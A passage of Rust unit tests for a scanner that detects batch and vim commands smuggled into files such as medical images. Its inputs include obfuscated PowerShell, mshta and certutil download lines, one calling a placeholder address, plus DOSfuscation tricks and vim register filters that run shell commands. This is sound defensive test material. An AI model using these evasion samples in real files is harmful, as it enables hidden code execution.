            b"x\n%comspec:~-16,1%%comspec:~-13,1%%comspec:~-12,1% x\n",
            b"x\n%PATH:a=b% x\n",
            b"x\nset p=powershell\r\n%p% -enc ZQBjAGgAbwA=\r\n",
            b"x\nset \"a=power\" & set b=sh^ell\n%a%%b% -nop -c iex(x)\n",
            b"x\nSET /P p=\n%P% x\n",
            b"x\npow%nothing%ershell -nop -c iex(x)\n",
            b"x\n%undefined%certutil -urlcache -f http://203.0.113.7/a a\n",
            b"x\n@%%x%%\nset x=mshta\n\n@%x% vbscript:Execute(x)\n",
        ] {
            assert!(
                find_batch_command(line).is_some(),
                "{}",
                String::from_utf8_lossy(line)
            );
        }
        for line in [
            // Set after the line that uses it, set to no launcher, a Windows variable
            // kept as written, a percentage in prose.
            &b"x\n%p% -enc ZQBjAGgAbwA=\nset p=powershell\n"[..],
            b"x\nset p=notepad\n%p% readme.txt\n",
            b"x\n%TEMP%\\report.txt\n",
            b"x\n%50 of the lesion, 20% enhancing\n",
            b"x\n100%% confidence\n",
            b"x\n\"%s:\\n--hash=%s:%s\" % (path, x)\n",
            b"x\n%undefined:~0,1%x\n",
        ] {
            assert_eq!(
                find_batch_command(line),
                None,
                "{}",
                String::from_utf8_lossy(line)
            );
        }
        // `%SystemRoot%\...` is still read as the path it is.
        assert!(find_batch_command(b"x\n%SystemRoot%\\System32\\cmd.exe /c calc\n").is_some());
    }

    /// Ways a file sets the name cmd.exe runs that the expansion did not follow, each
    /// of which runs PowerShell in cmd.exe: a caret in `set`'s name, a `set` closing a
    /// block, a value built from another variable or a `for` variable, delayed
    /// expansion, and `call %%NAME%%` (review s10-r10).
    #[test]
    fn names_set_through_blocks_carets_loops_and_second_expansions_are_followed() {
        for line in [
            &b"x\nset ^p=powershell\n%p% -nop -c iex(x)\n"[..],
            b"x\nset p^=powershell\n%p% -nop -c iex(x)\n",
            b"x\nif 1==1 (set p=powershell)\n%p% -nop -c iex(x)\n",
            b"x\nset a=power\nset q=%a%shell\n%q% -nop -c iex(x)\n",
            b"x\nset q=power\nset q=%q%shell\n%q% -nop -c iex(x)\n",
            b"x\nfor /f %%a in (\"powershell\") do set p=%%a\n%p% -nop -c iex(x)\n",
            b"x\nsetlocal enabledelayedexpansion\nset p=powershell\n!p! -nop -c iex(x)\n",
            b"x\nset p=powershell\ncall %%p%% -nop -c iex(x)\n",
            // A path with parentheses is kept whole: the program it names runs.
            b"x\nset p=C:\\Program Files (x86)\\notepad.exe\n\"%p%\" readme.txt\n",
        ] {
            assert!(
                find_batch_command(line).is_some(),
                "{}",
                String::from_utf8_lossy(line)
            );
        }
        for line in [
            // Prose with `!` names nothing.
            &b"x\nset p=1\nWarning! check !q! now\n"[..],
            b"x\n!p! -nop\n",
            b"x\n100%% done\n",
        ] {
            assert_eq!(
                find_batch_command(line),
                None,
                "{}",
                String::from_utf8_lossy(line)
            );
        }
    }

    /// `cmd.exe` alone starts an interactive shell that reads the console, nothing of
    /// the file: JavaScript's `process.env.comspec || "cmd.exe";` (cross-spawn, bundled
    /// in playwright-core's utilsBundle.js) was an alert (review s10-r10). With any
    /// argument or a redirection it is a command line still.
    #[test]
    fn cmd_exe_with_nothing_to_run_is_no_command_line() {
        for line in [
            &b"x\nparsed.command = process.env.comspec || \"cmd.exe\";\n"[..],
            b"x\nfoo || cmd.exe\r\n",
            b"x\nfoo || \"cmd.exe\" ;, \r\n",
        ] {
            assert_eq!(
                find_batch_command(line),
                None,
                "{}",
                String::from_utf8_lossy(line)
            );
        }
        for line in [
            &b"x\nfoo || \"cmd.exe\" /c calc\n"[..],
            b"x\nfoo || \"cmd.exe\";/c calc\n",
            b"x\ncmd.exe < payload.txt\n",
            b"x\nstart.exe evil.exe\n",
        ] {
            assert!(
                find_batch_command(line).is_some(),
                "{}",
                String::from_utf8_lossy(line)
            );
        }
    }

    /// A line of `set` commands with no line end: reading each to the line's end made
    /// the search quadratic (5 MB took half a minute in the scan, 64 MiB would take
    /// hours); each is read to the next candidate only (review s10-r10). The bound is
    /// far from both: linear takes well under a second here.
    #[test]
    fn set_commands_on_one_long_line_are_each_read_to_the_next_only() {
        for unit in [&b"&set a"[..], b"&set /p a", b"&set a=", b"&set \"a"] {
            let mut input = b"x\n%a% x\n".to_vec();
            input.extend_from_slice(&unit.repeat(2_000_000));
            let started = std::time::Instant::now();
            let mut variables = Variables::default();
            variables.read(&input);
            assert!(
                started.elapsed() < std::time::Duration::from_secs(60),
                "{} took {:?}",
                String::from_utf8_lossy(unit),
                started.elapsed()
            );
        }
    }

    /// MAX_BATCH_VARIABLES at its value: a file with that many `set` commands has each
    /// kept (its launcher found, and an unknown name expands to nothing); one more, and
    /// a name expanding a variable not kept is reported as built, naming the limit.
    #[test]
    fn batch_variables_are_kept_to_their_limit_and_past_it_reported() {
        let file = |sets: usize| {
            let mut file = b"x\n".to_vec();
            for n in 0..sets - 1 {
                file.extend_from_slice(format!("set v{n}=1\n").as_bytes());
            }
            file.extend_from_slice(b"set p=powershell\n%q%%p% -nop -c iex(x)\n");
            file
        };
        let at = find_batch_command(&file(MAX_BATCH_VARIABLES)).expect("found");
        assert_eq!(at.interpreter, "powershell", "{at:?}");
        let over = find_batch_command(&file(MAX_BATCH_VARIABLES + 1)).expect("found");
        assert!(over.detail.contains("MAX_BATCH_VARIABLES"), "{over:?}");
        // A variable kept, then set again past the limit: its kept value is not used.
        let mut file = b"x\nset p=notepad\n".to_vec();
        for n in 0..MAX_BATCH_VARIABLES {
            file.extend_from_slice(format!("set v{n}=1\n").as_bytes());
        }
        file.extend_from_slice(b"set p=powershell\n%p% -nop -c iex(x)\n");
        let reset = find_batch_command(&file).expect("found");
        assert!(reset.detail.contains("MAX_BATCH_VARIABLES"), "{reset:?}");
    }

    /// Lines of candidates with no line end (`&\&\...`, `&^&^...`, `&"&"...`, `&%&%...`):
    /// each candidate's reads stop at the next candidate, or read past at most
    /// `MAX_CMD_PASSED_SEPARATORS` escaped or quoted ones, so a search over them is linear.
    /// Reads to the line's end from every `&` made 400 KB of them take five seconds (a
    /// 64 MiB window, hours); these are 200 KB (read to the line's end, each would take
    /// over a second; with the separators read past, a debug build takes ~15 s for all:
    /// at 1.6 MB each, as before session 38, two minutes of the suite's time).
    #[test]
    fn candidates_on_one_long_line_are_each_read_to_the_next_only() {
        for unit in [
            &b"&\\"[..],
            b"&^",
            b"&\"",
            b"&%",
            b"&%a",
            b"&C:",
            b"&!",
            b"&!a",
            b"&%%a",
        ] {
            let input = unit.repeat(100_000);
            assert_eq!(find_batch_command(&input), None);
        }
        // The same shapes still find what follows them.
        let mut line = b"&\\".repeat(1000);
        line.extend_from_slice(b"&\"C:\\Windows\\System32\\cmd.exe\" /c calc\n");
        assert!(find_batch_command(&line).is_some());
    }

    #[test]
    fn batch_lines_start_with_a_launcher() {
        let found =
            find_batch_command(b"\0\0garbage\r\n@powershell -nop -c iex(x)\r\n").expect("found");
        assert_eq!(found.interpreter, "powershell");
        assert!(find_batch_command(b"x\r\ncmd.exe /c calc\r\n").is_some());
        assert_eq!(find_batch_command(b"x\nstarting the scan\n"), None);
    }

    /// cmd.exe removes carets (its escape character) and double quotes from a program's
    /// name before it runs it (DOSfuscation): `p^ower^shell` and `"powershell.exe"` are
    /// PowerShell, and were no command here. A doubled caret is a caret: no launcher.
    #[test]
    fn carets_and_quotes_in_a_launcher_name_are_read_as_cmd_reads_them() {
        for line in [
            &b"x\r\np^ower^shell -nop -c iex(x)\r\n"[..],
            b"x\n\"powershell.exe\" -enc ZABpAHIAIAAiAGMAOgBcAHAAcgBvAGcAcgBhAG0AIABmAGkAbABlAHMAIgAgAA==\n",
            b"x\n@^p^o^w^e^r^s^h^e^l^l^.^e^x^e -c x\n",
            b"x\n\"c\"md /c calc\n",
            b"x\nm^s^h^t^a vbscript:Execute(x)\n",
        ] {
            assert!(
                find_batch_command(line).is_some(),
                "{}",
                String::from_utf8_lossy(line)
            );
        }
        let quoted = find_batch_command(
            b"x\n\"pwsh\" -ec ZABpAHIAIAAiAGMAOgBcAHAAcgBvAGcAcgBhAG0AIABmAGkAbABlAHMAIgAgAA==\n",
        )
        .expect("found");
        assert_eq!(quoted.interpreter, "powershell");
        assert!(quoted.detail.contains("program files"), "{}", quoted.detail);
        for line in [
            &b"x\np^^owershell -c x\n"[..],
            b"x\np^^\nowershell -c x\n",
            b"x\n\"the scan\" was repeated\n",
            b"x\n^\n",
        ] {
            assert_eq!(
                find_batch_command(line),
                None,
                "{}",
                String::from_utf8_lossy(line)
            );
        }
    }

    /// Review r26-screen: a caret last on a line joins the next line to it (cmd.exe's
    /// line continuation; the CRs of a CRLF file are removed before carets are read, and
    /// the joined line's first byte is taken as written): `p^` CRLF `owershell` is
    /// PowerShell, and was no command here. An even number of carets is a caret.
    #[test]
    fn a_program_name_split_by_caret_line_continuations_is_joined() {
        for file in [
            &b"x\r\np^\r\nowershell -nop -c iex(x)\r\n"[..],
            b"x\np^\now^\ners^\nhell -c x\n",
            b"x\r\nm^\r\ns^\r\nhta vbscript:Execute(x)\r\n",
            b"x\r\np^\r\n\r\nowershell -c x\r\n",
        ] {
            let found = find_batch_command(file);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert),
                "{}: {found:?}",
                String::from_utf8_lossy(file)
            );
        }
        // The escaped first byte of a joined line is a caret as written: `m^shta`.
        for file in [
            &b"x\np^^\r\nowershell -c x\n"[..],
            b"x\np^ \nowershell\n",
            b"x\r\nm^\r\n^s^\r\nhta vbscript:Execute(x)\r\n",
        ] {
            assert_eq!(
                find_batch_command(file),
                None,
                "{}",
                String::from_utf8_lossy(file)
            );
        }
    }

    /// Review r26-screen: `for /f %%a in ('powershell -c x') do echo %%a` runs
    /// PowerShell (cmd.exe runs the set's command and reads its output), and was no
    /// command here: only the loop's body was read.
    #[test]
    fn the_command_of_a_for_f_set_is_read_as_a_command() {
        for file in [
            &b"x\r\nfor /f %%a in ('powershell -nop -c iex(x)') do echo %%a\r\n"[..],
            b"x\r\n@for /F \"usebackq tokens=*\" %%a IN (`mshta vbscript:Execute(x)`) do set v=%%a\r\n",
            b"x\r\nfor /f \"delims=\" %%a in ( ' @call powershell -c x ' ) do echo %%a\r\n",
            b"x\r\nfor /f %%a in ('dir /b') do powershell -c %%a\r\n",
        ] {
            let found = find_batch_command(file);
            assert!(
                found.as_ref().is_some_and(|c| c.severity == Severity::Alert),
                "{}: {found:?}",
                String::from_utf8_lossy(file)
            );
        }
        for file in [
            &b"x\r\nfor /f %%a in (powershell.txt) do echo %%a\r\n"[..],
            b"x\r\nfor %%a in ('powershell') do echo %%a\r\n",
            b"x\r\nfor /f %%a in (\"powershell -c x\") do echo %%a\r\n",
            b"x\r\nfor /f %%a in ('dir /b') do echo %%a\r\n",
        ] {
            assert_eq!(
                find_batch_command(file),
                None,
                "{}",
                String::from_utf8_lossy(file)
            );
        }
    }

    /// Review r26-screen: cmd.exe runs a batch file's first line like any other, and a
    /// command there (a whole file of `powershell -nop -c …`, or a preamble starting so)
    /// was no command: only lines after a separator were read.
    #[test]
    fn a_command_on_the_first_line_is_read() {
        for file in [
            &b"powershell -nop -c iex(x)\r\n"[..],
            b"@p^\r\nowershell -c x",
            b"for /f %%a in ('mshta vbscript:Execute(x)') do echo %%a\r\n",
        ] {
            let found = find_batch_command(file);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert && c.offset < 20),
                "{}: {found:?}",
                String::from_utf8_lossy(file)
            );
        }
        assert_eq!(find_batch_command(b"PowerShells and shells\r\n"), None);
    }

    /// MAX_BATCH_NAME_CONTINUATIONS at its value: a name over that many continued lines
    /// is read; one more is a warning naming the limit, not silence.
    #[test]
    fn a_name_over_more_continued_lines_than_the_limit_is_a_warning() {
        let name = |lines: usize| [b"a^\n".repeat(lines), b"b -c x\n".to_vec()].concat();
        let at_limit = name(MAX_BATCH_NAME_CONTINUATIONS);
        let (read, _) = program_name_as_read(&at_limit).expect("within the limit");
        assert_eq!(read.len(), MAX_BATCH_NAME_CONTINUATIONS + 1);
        assert!(program_name_as_read(&name(MAX_BATCH_NAME_CONTINUATIONS + 1)).is_err());
        let file = [&b"x\n"[..], &name(MAX_BATCH_NAME_CONTINUATIONS + 1)].concat();
        let found = find_batch_command(&file).expect("a warning");
        assert_eq!(found.severity, Severity::Warning);
        assert!(
            found.detail.contains("MAX_BATCH_NAME_CONTINUATIONS"),
            "{}",
            found.detail
        );
        // Linear: a file of such lines is read in time (each line by at most
        // MAX_BATCH_NAME_CONTINUATIONS names before it).
        let many = b"a^\n".repeat(1 << 18);
        assert!(find_batch_command(&many).is_some());
    }

    /// Review s15-r10: a `:normal` line of many `!` and no Enter key (so no filter runs)
    /// looked for an Enter after each `!` to the line's end: 200 KB took minutes. Each
    /// Enter is found once now; this must take well under a second.
    #[test]
    fn a_normal_line_of_many_filters_without_an_enter_is_linear() {
        let mut text = b"x\nnorm! ".to_vec();
        text.extend(b"!a".repeat(100_000));
        text.push(b'\n');
        let started = std::time::Instant::now();
        assert_eq!(find_ex_command(&text), None);
        assert!(
            started.elapsed() < std::time::Duration::from_secs(20),
            "{:?}",
            started.elapsed()
        );
    }

    /// Compressed pixel data (near-random bytes) of a large multi-frame image is no vim
    /// script, but `\nso` (`:source` of the buffer) and `\na` (`:append` to a line of
    /// one `.` that never comes) turn up in it by chance: the buffer sourced is the rest
    /// of the file. Session 23: a 64 MiB image went past MAX_EX_MODELLED_BYTES, a
    /// `not-inspected` warning, and a refusing gateway route refused it (0xA700).
    #[test]
    fn random_pixel_data_of_a_large_image_stays_within_the_modelled_limit() {
        let mut state = 0x2545_f491_4f6c_dd1d_u64;
        let mut bytes = Vec::with_capacity(64 << 20);
        while bytes.len() < 64 << 20 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            bytes.extend_from_slice(&state.to_le_bytes());
        }
        let found = find_ex_command(&bytes);
        assert!(
            found
                .as_ref()
                .is_none_or(|f| !f.detail.contains("MAX_EX_MODELLED_BYTES")),
            "{found:?}"
        );
    }

    /// MAX_EX_MODELLED_BYTES covers `:normal` filters too: every `!` among a line's keys
    /// is a filter whose command is read to the Enter, so a line of many `!` costs its
    /// length squared; read to the limit, and past it a warning naming it.
    #[test]
    fn normal_filters_past_the_modelled_limit_are_a_warning() {
        let line = |bangs: usize| {
            let mut text = b"x\nnorm! ".to_vec();
            text.extend(b"!a".repeat(bangs));
            text.extend_from_slice(b"\r\n");
            text
        };
        assert_eq!(find_ex_command(&line(200)), None);
        let found = find_ex_command(&line(4000)).expect("a warning");
        assert_eq!(found.severity, Severity::Warning, "{found:?}");
        assert!(
            found.detail.contains("MAX_EX_MODELLED_BYTES"),
            "{}",
            found.detail
        );
        // Within it, a filter after many others is still found.
        let mut text = line(200);
        text.truncate(text.len() - 2);
        text.extend_from_slice(b"\rnorm\r\n\nnorm! !!sh -c 'echo x > RAN'\r\n");
        let found = find_ex_command(&text).expect("found");
        assert_eq!(found.severity, Severity::Alert, "{found:?}");
    }

    /// MAX_VIM_REGISTER_NESTING: registers run from registers (`let @a = "@b"`, …, the
    /// last holding the filter) are followed that deep, and one more is a warning.
    #[test]
    fn registers_run_from_registers_are_followed_to_their_limit_and_past_it_reported() {
        let chain = |n: usize| {
            let mut text = b"\0\0garbage\n".to_vec();
            let names: Vec<u8> = (b'a'..=b'z').take(n).collect();
            for pair in names.windows(2) {
                text.extend_from_slice(
                    format!(
                        "let @{} = \"@{}\"\n",
                        char::from(pair[0]),
                        char::from(pair[1])
                    )
                    .as_bytes(),
                );
            }
            text.extend_from_slice(
                format!(
                    "let @{} = \"!!sh -c 'echo x > RAN'\\r\"\nnorm! @a\n",
                    char::from(names[n - 1])
                )
                .as_bytes(),
            );
            text
        };
        let at = find_ex_command(&chain(MAX_VIM_REGISTER_NESTING)).expect("found");
        assert_eq!(at.severity, Severity::Alert, "{at:?}");
        let past = find_ex_command(&chain(MAX_VIM_REGISTER_NESTING + 1)).expect("reported");
        assert_eq!(past.severity, Severity::Warning, "{past:?}");
        assert!(past.detail.contains("MAX_VIM_REGISTER_NESTING"), "{past:?}");
        // A register run that the file never writes runs nothing.
        assert_eq!(find_ex_command(b"\0garbage\nnorm! @a\n"), None);
    }

    /// Session 16 (review s15-r10): spellings of a filter run from a register and of a
    /// filter operator from a variable or a call. vim 9 `vim -es -u NONE -i NONE` ran
    /// each after a line of garbage (checked by hand, with `put =range(1,9)` first); the
    /// two real-reader tests of tests/real_readers.rs run one of each class in vim.
    #[test]
    fn filters_from_registers_variables_and_calls_are_found() {
        for script in [
            "call setreg('a', \"!!sh -c 'echo x > RAN'\\r\")\nnorm! @a",
            "let @a = \"!!sh -c 'echo x > RAN'\\r\"\nexe \"norm! @a\"",
            "let @a = \"!sh -c 'echo x > RAN'\"\n@a",
            "let @a = \"!sh -c 'echo x > RAN'\"\nexe \"@a\"",
            "let @b = \"!!sh -c 'echo x > RAN'\\r\"\nlet @a = \"@b\"\nnorm! @a",
            "let @a = \"!!\"\nlet @A = \"sh -c 'echo x > RAN'\\r\"\nnorm! @a",
            "let @a = \"!!\"\nlet @a .= \"sh -c 'echo x > RAN'\\r\"\nnorm! @a",
            "let x = \"!!sh -c 'echo x > RAN'\\r\"\nlet @a = x\nnorm! @a",
            "norm! @=\"!!sh -c 'echo x > RAN'\\r\"\x16\r",
            "put ='!!sh -c ''echo x > RAN'''\nnorm! \"ayy\nnorm! @a",
            "call setreg('a', ['!sh -c \"echo x > RAN\"'])\n@a",
            "let @a = \"!!sh -c 'echo x > RAN'\\r\" | norm! @a",
            "let @q = \":!sh -c 'echo x > RAN'\\r\"\nnorm! @q",
            "let @a = \"!!sh -c 'echo x > RAN'\\r\"\ncall execute(\"norm! @a\")",
            "let k = '!!'\nexe \"norm! \" .. k .. \"sh -c 'echo x > RAN'\\r\"",
            "const k = \"!!\"\nexe \"norm! \" . k . \"sh -c 'echo x > RAN'\\r\"",
            "let g:k = \"!!\"\nexe \"norm! \" . g:k . \"sh -c 'echo x > RAN'\\r\"",
            "exe \"norm! \" . nr2char(33) . nr2char(33) . \"sh -c 'echo x > RAN'\\r\"",
            "let k = \"!\"\nexe \"norm! \" . k . k . \"sh -c 'echo x > RAN'\\r\"",
            "let k = \"!ip\"\nexe \"norm! \" . k . \"sh -c 'echo x > RAN'\\r\"",
            "exe \"norm! 3\" . repeat(\"!\", 2) . \"sh -c 'echo x > RAN'\\r\"",
            "let k = \"!!\"\nexe \"norm!\" k . \"sh -c 'echo x > RAN'\\r\"",
            "exe \"norm! \" . toupper(\"!!\") . \"sh -c 'echo x > RAN'\\r\"",
            "function F(k)\nexe \"norm! \" . a:k . \"sh -c 'echo x > RAN'\\r\"\nendfunction\ncall F(\"!!\")",
            "let k = \"!!sh -c 'echo x > RAN'\\r\"\nexe \"norm! \" . k",
        ] {
            let file = format!("\0\0\0DICM garbage\nput =range(1,9)\n1\n{script}\nq!\n");
            let found = find_ex_command(file.as_bytes());
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert),
                "{script}: {found:?}"
            );
        }
        // vim ran none of these: a variable assigned only keys that are no filter, a
        // register holding none, a register never written, vim's own `norm!` of a count.
        for script in [
            "let n = 3\nexe \"norm! \" . n . \"G\"",
            "let k = \"j\"\nexe \"norm! \" . k . \"sh -c 'echo x > RAN'\\r\"",
            "let @a = \"jj\"\nnorm! @a",
            "norm! @a",
            "let @/ = \"foo\"\nnorm! n",
            "exe \"NetrwKeepj norm! \".netrw_hline.\"G0z\\<CR>\"",
        ] {
            let file = format!("\0\0\0DICM garbage\nput =range(1,9)\n1\n{script}\nq!\n");
            assert_eq!(find_ex_command(file.as_bytes()), None, "{script}");
        }
    }

    /// Review s16-r10: vim -es ran each of these and the file was clean: a register
    /// whose name `:normal` gets from a variable or a call (`exe "norm! @" . r`), and a
    /// linewise register (`setreg` with a list or `l`), whose lines end with an Enter.
    #[test]
    fn registers_named_at_run_time_and_linewise_registers_are_found() {
        for script in [
            "let r = \"a\"\nlet @a = \"!!sh -c 'echo x > RAN'\\r\"\nexe \"norm! @\" . r",
            "let @a = \"!!sh -c 'echo x > RAN'\\r\"\nexe \"norm! @\" . nr2char(97)",
            "let @a = \"!!sh -c 'echo x > RAN'\\r\"\nexe \"norm! @\" . tolower(\"A\")",
            "let @a = \"!sh -c 'echo x > RAN'\"\nlet r = \"a\"\nexe \"@\" . r",
            "call setreg(\"a\", [\"!!sh -c 'echo x > RAN'\"], \"l\")\nnorm! @a",
            "call setreg(\"a\", [\"!!sh -c 'echo x > RAN'\"])\nnorm! @a",
            "call setreg(\"a\", \"!!sh -c 'echo x > RAN'\", \"l\")\nnorm! @a",
            "let @a = \"!!sh -c 'echo x > RAN'\\r\"\nlet F = {-> execute(\"norm! @a\")}\ncall F()",
            "let @a = \"!!sh -c 'echo x > RAN'\\r\"\ncall timer_start(0, {t -> execute(\"norm! @a\")})",
        ] {
            let file = format!("\0\0\0DICM garbage\nput =range(1,9)\n1\n{script}\nq!\n");
            let found = find_ex_command(file.as_bytes());
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert),
                "{script}: {found:?}"
            );
        }
        // No register written: a register named at run time runs nothing known; a
        // characterwise register with no Enter is no filter.
        for script in [
            "let r = \"a\"\nexe \"norm! @\" . r",
            "call setreg(\"a\", \"!!sh -c 'echo x > RAN'\", \"c\")\nnorm! @a",
        ] {
            let file = format!("\0\0\0DICM garbage\nput =range(1,9)\n1\n{script}\nq!\n");
            assert_eq!(find_ex_command(file.as_bytes()), None, "{script}");
        }
    }

    /// Review s16-r10: a `:normal` filter whose keys come from a dictionary or list
    /// element the file assigns literally (`let d = {"k": "!!sh …\r"}` then `exe "norm!
    /// " . d.k`, likewise `d["k"]`, `l[0]`): vim -es ran it and the file was clean. An
    /// unknown value at the end of `:normal` keys stays no finding, because vim's own
    /// runtime does that benignly (`exe "normal! " . a:command` in editexisting.vim).
    #[test]
    fn normal_keys_from_dictionary_and_list_elements_are_found() {
        for script in [
            "let d = {\"k\": \"!!sh -c 'echo x > RAN'\\r\"}\nexe \"norm! \" . d.k",
            "let d = {\"k\": \"!!sh -c 'echo x > RAN'\\r\"}\nexe \"norm! \" . d[\"k\"]",
            "let l = [\"!!sh -c 'echo x > RAN'\\r\"]\nexe \"norm! \" . l[0]",
        ] {
            let file = format!("\0\0\0DICM garbage\nput =range(1,9)\n1\n{script}\nq!\n");
            let found = find_ex_command(file.as_bytes());
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert),
                "{script}: {found:?}"
            );
        }
        // MAX_VIM_LITERAL_ELEMENTS: the last element read is put in; one past is a
        // warning naming the limit.
        let list = |n: usize| {
            let mut items = vec!["\"j\"".to_owned(); n];
            items.push("\"!!sh -c 'echo x > RAN'\\r\"".to_owned());
            format!(
                "\0\0\0DICM garbage\nlet l = [{}]\nexe \"norm! \" . l[{n}]\n",
                items.join(", ")
            )
        };
        let found = find_ex_command(list(MAX_VIM_LITERAL_ELEMENTS - 1).as_bytes()).expect("found");
        assert_eq!(found.severity, Severity::Alert, "{found:?}");
        let past = find_ex_command(list(MAX_VIM_LITERAL_ELEMENTS).as_bytes()).expect("reported");
        assert_eq!(past.severity, Severity::Warning, "{past:?}");
        assert!(past.detail.contains("MAX_VIM_LITERAL_ELEMENTS"), "{past:?}");
    }
}

/// Issue 10 (review r30-falsepos): invariant 11 over seeded random bytes. Uniform random
/// bytes stand for compressed or encrypted pixel data (JPEG 2000, deflate); bytes rich in
/// letters and batch syntax find the weak rules a thousand times faster than uniform ones.
#[cfg(test)]
mod chance_match_tests {
    /// A seeded splitmix64 stream: the same bytes on every run.
    fn splitmix(seed: u64) -> impl FnMut() -> u64 {
        let mut state = seed;
        move || {
            state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }
    }

    /// 64 KiB windows of uniform random bytes: no batch command. Measured at r30: 0 in
    /// 10,000 such windows (625 MiB, 91 s debug); 200 here keep the test at ~3 s.
    #[test]
    fn uniform_random_windows_hold_no_batch_command() {
        let mut next = splitmix(0x5EED_0010);
        for window in 0..200 {
            let bytes: Vec<u8> = (0..8192).flat_map(|_| next().to_le_bytes()).collect();
            let found = super::find_batch_command(&bytes);
            assert!(found.is_none(), "window {window}: {found:?}");
        }
    }

    /// Issue 10 (session 34): an ambiguous tool's arguments are read in binary values as
    /// in text ([`super::switch_words`]): every argument to the line's end, carets
    /// dropped, quotes removed for a program of the C runtime, a `/` after a path inside
    /// a word (sessions 32-33: the first three as written there). Each word starting with
    /// a `/` is a chance for uniform bytes to hold a switch, the rest of the switch asked
    /// for alike, so the switch part of the rule's chance (9.6e-9 with the first argument
    /// at r31, ARCHITECTURE invariant 11: `rd /s|/q` 7e-9, `cmd` 1.7e-9, `del` 6e-10, ...)
    /// grows by the ratio of such words to first arguments starting with a `/`, measured
    /// here for a built-in (`rd`: quotes kept) and a program (`cmd`: quotes removed), as
    /// binary values read them. A built-in's name ended by `/` (`\nrd/s` then a path) is
    /// an eighth of `rd /s` (a `/` is one byte where a delimiter is eight) times the
    /// measured chance of a path among the arguments. The sum must stay within the
    /// budget of 2e-8. The words are read as cmd.exe reads them, carriage returns deleted
    /// first ([`super::CmdLine`]: session 37; before, as written, a CR ended them); the
    /// factor of the words as written is printed beside it.
    #[test]
    fn every_argument_read_as_cmd_reads_it_keeps_the_ambiguous_tool_rule_within_its_budget() {
        let mut next = splitmix(0x5EED_0032);
        let slashes = |words: &mut dyn Iterator<Item = &[u8]>| {
            u32::try_from(words.filter(|word| word.first() == Some(&b'/')).count())
                .expect("a line's words")
        };
        let (mut first, mut three, mut builtin, mut program) = (0u32, 0u32, 0u32, 0u32);
        // The same words as written (a CR ended them, before session 37): rd, cmd.
        let mut as_written = (0u32, 0u32);
        let mut paths = 0u32;
        for _ in 0..100_000 {
            let after: Vec<u8> = (0..32).flat_map(|_| next().to_le_bytes()).collect();
            first += slashes(&mut std::iter::once(super::first_argument(&after)));
            three += slashes(&mut super::leading_arguments(&after, true).take(3));
            let words = |tool: &[u8], line: &[u8]| {
                slashes(
                    &mut super::switch_words(tool, line, true)
                        .iter()
                        .map(Vec::as_slice),
                )
            };
            let line = super::CmdLine::read(&after);
            builtin += words(b"rd", &line.text[..]);
            program += words(b"cmd", &line.text[..]);
            as_written.0 += words(b"rd", &after[..]);
            as_written.1 += words(b"cmd", &after[..]);
            paths += u32::from(
                super::leading_arguments(&line.text, true)
                    .any(|word| super::names_a_path(word, true)),
            );
        }
        let ratio = |n: u32| f64::from(n) / f64::from(first);
        let factor = ratio(builtin).max(ratio(program));
        let glued = 7e-9 / 8.0 * f64::from(paths) / 100_000.0;
        let rate = 9.6e-9 * factor + glued + 0.4e-9;
        eprintln!(
            "{first} first arguments starting with '/'; the first three as written x{:.2} \
             ({:.2e} a window); every word as cmd.exe reads it: rd x{:.2}, cmd x{:.2}, \
             `rd/s` {glued:.1e}: {rate:.2e} (as written, a CR ending them: rd x{:.2}, cmd \
             x{:.2})",
            ratio(three),
            9.6e-9 * ratio(three) + 0.4e-9,
            ratio(builtin),
            ratio(program),
            ratio(as_written.0),
            ratio(as_written.1),
        );
        assert!(first > 200, "{first}: too few to measure");
        assert!(rate < 2e-8, "x{factor:.2}: {rate:.2e} a window");
    }

    /// A 64 KiB window of bytes rich in letters and batch syntax: 70% drawn from the
    /// letters, blank, quote, slash, dash, dot, line feed, `&`, `|`, `%`, `!`, `:`, `~`,
    /// the rest uniform. Each rule's bytes are ~50-400 times likelier here than in
    /// uniform bytes, so chance matches a rule would make over terabytes of compressed
    /// pixel data show in a few hundred windows.
    fn rich_window(next: &mut impl FnMut() -> u64) -> Vec<u8> {
        const RICH: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ \"/-.\n&|%!:~";
        (0..65536)
            .map(|_| {
                let r = next();
                if r % 100 < 70 {
                    RICH[((r >> 8) as usize) % RICH.len()]
                } else {
                    (r >> 16) as u8
                }
            })
            .collect()
    }

    /// Issue 10: the ambiguous-tool rule and the `)` of a bare name, over 300 windows rich
    /// in their syntax (r30: `\nRd /GNCth\n` and `\nzE\xdb-nUR.JsE)` among them). Every
    /// command found is a bare name ended by a line end, an operator or a redirection:
    /// the rule left open (see `syntax_rich_random_windows_hold_no_batch_command`).
    #[test]
    fn syntax_rich_windows_hold_no_chance_tool_or_block_command() {
        let mut next = splitmix(0x9E37_79B9_7F4A_7C15);
        let mut wrong = Vec::new();
        for window in 0..300 {
            let bytes = rich_window(&mut next);
            let Some(command) = super::find_batch_command(&bytes) else {
                continue;
            };
            let line = &bytes[command.offset..];
            let name = &line[..super::name_end(line, false)];
            let tool = super::AMBIGUOUS_BATCH.iter().any(|tool| {
                name.eq_ignore_ascii_case(tool)
                    || name.eq_ignore_ascii_case(&[tool, &b".exe"[..]].concat())
            });
            if tool || name.contains(&b')') || !super::has_runnable_extension(name) {
                wrong.push((window, command.detail));
            }
        }
        assert!(wrong.is_empty(), "{wrong:?}");
    }

    /// Issue 10: at r30 3 chance commands in these 300 windows, of the two weakest
    /// rules; the ambiguous-tool rule (`\nRd /GNCth\n`) and the `)` outside a block
    /// (`\nzE\xdb-nUR.JsE)`) find none since r31
    /// (`syntax_rich_windows_hold_no_chance_tool_or_block_command`). What is left is a
    /// bare name with a chance runnable extension alone on its line (`\nj.CPL|`), ~3.5e-6
